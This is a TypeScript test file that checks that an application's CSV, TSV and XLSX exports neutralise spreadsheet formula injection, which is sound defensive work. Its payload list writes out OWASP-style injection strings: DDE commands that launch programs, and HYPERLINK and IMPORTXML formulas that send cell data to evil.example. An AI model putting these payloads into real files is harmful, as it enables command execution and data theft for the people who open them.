/**
 * Every file Clientele writes is safe to open (issue 14), tested with the payloads of OWASP's CSV
 * injection page (owasp.org/www-community/attacks/CSV_Injection) and a few more: the privacy
 * export CSV, the CLI's CSV and TSV files whatever separator a reader splits on, and XLSX cells.
 */
import { Workbook } from 'exceljs';
import Papa from 'papaparse';
import { exportCsv, type PersonExport } from '../../src/core/privacy/exportFormats';
import { csvField } from '../../src/core/safeCsv';
import { formatCsv } from '../../src/local/files/csvTable';
import { writeXlsx } from '../../src/local/files/xlsxTable';

export const OWASP_PAYLOADS = [
  "=cmd|' /C calc'!A0",
  "=cmd|' /C notepad'!'A1'",
  '=HYPERLINK("http://evil.example/?leak="&A1&B1,"Error: click to fix")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"!A0")A0',
  '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
  '=1+1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\0=1+1',
  '＝1+1',
  "x;=cmd|' /C calc'!A0;y",
  "x,=cmd|' /C calc'!A0,y",
  "x\t=cmd|' /C calc'!A0",
  '"=1+1"',
  'a";=1+1;"b',
  "x\r\n=cmd|' /C calc'!A0",
];

/** Would a spreadsheet run this field as a formula? (A plain number or phone number computes nothing.) */
const runsAsFormula = (field: string) => /^[=+\-@\t\r\n\0＝＋－＠]/u.test(field) && !/^[+-][\d\s\-().,eE]*$/u.test(field);

/** Each field as a reader splitting on `delimiter` (and honouring quotes, as Excel, LibreOffice and Sheets do) sees it. */
const fieldsAsRead = (text: string, delimiter: string) => Papa.parse<string[]>(text.replace(/^\uFEFF/u, ''), { delimiter }).data.flat();

describe('CSV files are safe to open in every locale', () => {
  it.each([',', ';', '\t'] as const)('the CLI’s CSV written with %j: no reader, whatever it splits on, sees a formula', (written) => {
    const text = formatCsv(OWASP_PAYLOADS.map((payload) => ['ok', payload]), { delimiter: written });
    for (const reader of [',', ';', '\t']) for (const field of fieldsAsRead(text, reader)) expect(runsAsFormula(field)).toBe(false);
    // And the reader that uses the file's own separator gets every value back, after the text marker.
    const read = Papa.parse<string[]>(text.replace(/^\uFEFF/u, ''), { delimiter: written }).data.filter((row) => row.length > 1);
    expect(read.map((row) => row[1]!.replace(/'(?=[=+\-@＝])/gu, '').replace(/^'/u, ''))).toEqual(OWASP_PAYLOADS);
  });

  it('the privacy export CSV: no field is a formula for a reader splitting on commas, semicolons or tabs', () => {
    const data: PersonExport = {
      exportedAt: '2026-11-23T09:30:00.000Z',
      customerIds: ['C-000001'],
      sheets: [{ sheet: 'Responses', rows: OWASP_PAYLOADS.map((payload, index) => ({ row: index + 2, values: { Comment: payload } })) }],
    };
    const text = exportCsv(data);
    for (const reader of [',', ';', '\t']) for (const field of fieldsAsRead(text, reader)) expect(runsAsFormula(field)).toBe(false);
  });

  it.each([
    ['+77011234567', '+77011234567'],
    ['-12.5', '-12.5'],
    ['+7 (727) 222-33-44', '+7 (727) 222-33-44'],
    ['Иван; Пётр', '"Иван; Пётр"'],
    ['-', "'-"],
  ])('numbers and phones stay as they are, text with a separator is quoted: %j', (text, field) => {
    expect(csvField(text)).toBe(field);
  });

  it('XLSX: every payload is a string cell, never a formula', async () => {
    const bytes = await writeXlsx([{ name: 'Customers', rows: [['Notes'], ...OWASP_PAYLOADS.map((payload) => [payload])] }]);
    const workbook = new Workbook();
    await workbook.xlsx.load(Buffer.from(bytes) as unknown as Parameters<typeof workbook.xlsx.load>[0]);
    const sheet = workbook.worksheets[0]!;
    OWASP_PAYLOADS.forEach((payload, index) => {
      const cell = sheet.getCell(index + 2, 1);
      expect(cell.formula).toBeFalsy();
      // XML turns a lone carriage return into a line feed and cannot hold NUL; the text is otherwise as written.
      const plain = (text: string) => text.replace(/\r\n?/gu, '\n').replace(/\0/gu, '');
      expect(plain(String(cell.value))).toBe(plain(payload));
    });
  });
});
